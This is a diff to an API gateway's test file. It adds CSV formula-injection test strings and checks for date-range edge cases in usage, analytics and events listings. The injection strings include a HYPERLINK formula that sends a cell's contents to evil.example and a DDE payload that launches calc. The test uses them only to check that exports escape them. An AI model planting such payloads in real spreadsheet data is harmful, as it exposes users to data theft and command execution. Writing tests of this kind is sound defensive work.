@@ -167,7 +167,15 @@ describe.each([
 
   it("escapes free text that a spreadsheet would run as a formula in the CSV, not in the JSON", async () => {
     const other = await fundedAccount(gw.url, 25, "business");
-    const reasons = ['=HYPERLINK("https://evil.example","x")', "+1+cmd", "-2+3", "@SUM(A1)"];
+    const reasons = [
+      '=HYPERLINK("https://evil.example","x")',
+      "+1+cmd",
+      "-2+3",
+      "@SUM(A1)",
+      // A line break after the formula: papaparse's own pattern missed these.
+      '=HYPERLINK("https://evil.example/?"&A1,"click")\nx',
+      "+1+cmd|' /C calc'!A0\r\nz",
+    ];
     for (const reason of reasons)
       expect(
         (
@@ -176,14 +184,14 @@ describe.each([
           })
         ).status,
       ).toBe(201);
-    const res = await fetch(`${gw.url}/api/v1/usage?format=csv&kind=grant&limit=4`, {
+    const res = await fetch(`${gw.url}/api/v1/usage?format=csv&kind=grant&limit=6`, {
       headers: { "x-api-key": other.key },
     });
     const rows = Papa.parse<Record<string, string>>((await res.text()).trim(), { header: true });
     expect(rows.data.map((r) => [r.reason, r.amount])).toEqual(
       [...reasons].reverse().map((reason) => [`'${reason}`, "1"]),
     );
-    const json = await call(`${gw.url}/api/v1/usage?kind=grant&limit=4`, { key: other.key });
+    const json = await call(`${gw.url}/api/v1/usage?kind=grant&limit=6`, { key: other.key });
     expect(json.body.data.map((e: Entry & { reason: string }) => e.reason)).toEqual(
       [...reasons].reverse(),
     );
@@ -237,6 +245,28 @@ describe.each([
     }
     const first = await call(`${gw.url}/api/v1/usage?from=0001-01-01`, { key });
     expect(first.status).toBe(200);
+    // Times the gateway works out itself stay within years 1 to 9999 too: analytics' default
+    // start for a `to` early in year 1, and an events cursor dated past 9999 (both were 500).
+    for (const [path, from] of [
+      ["/api/v1/analytics?to=0001-01-01T10:00:00Z", "0001-01-01T00:00:00.000Z"],
+      ["/api/v1/analytics?to=0001-01-20&granularity=day", "0001-01-01T00:00:00.000Z"],
+    ] as const) {
+      const res = await call(`${gw.url}${path}`, { key });
+      expect([res.status, res.body.from, res.body.data], path).toEqual([200, from, []]);
+    }
+    const events = await call(`${gw.url}/api/v1/events`, { key });
+    for (const cursor of ["253402300800000-evt_a", "999999999999999-evt_a"]) {
+      const res = await call(`${gw.url}/api/v1/events?cursor=${cursor}`, { key });
+      expect([res.status, res.body.data], cursor).toEqual([200, events.body.data]);
+    }
+  });
+
+  it("takes a date alone as its 00:00 UTC in every list's from and to, events' too", async () => {
+    for (const list of ["usage", "events"]) {
+      const all = await call(`${gw.url}/api/v1/${list}`, { key });
+      const res = await call(`${gw.url}/api/v1/${list}?from=2000-01-01&to=9999-12-31`, { key });
+      expect([res.status, res.body.data], list).toEqual([200, all.body.data]);
+    }
   });
 
   it("lists the entries the exporter moves while a listing reads them: each is in the store or the books when read", async () => {
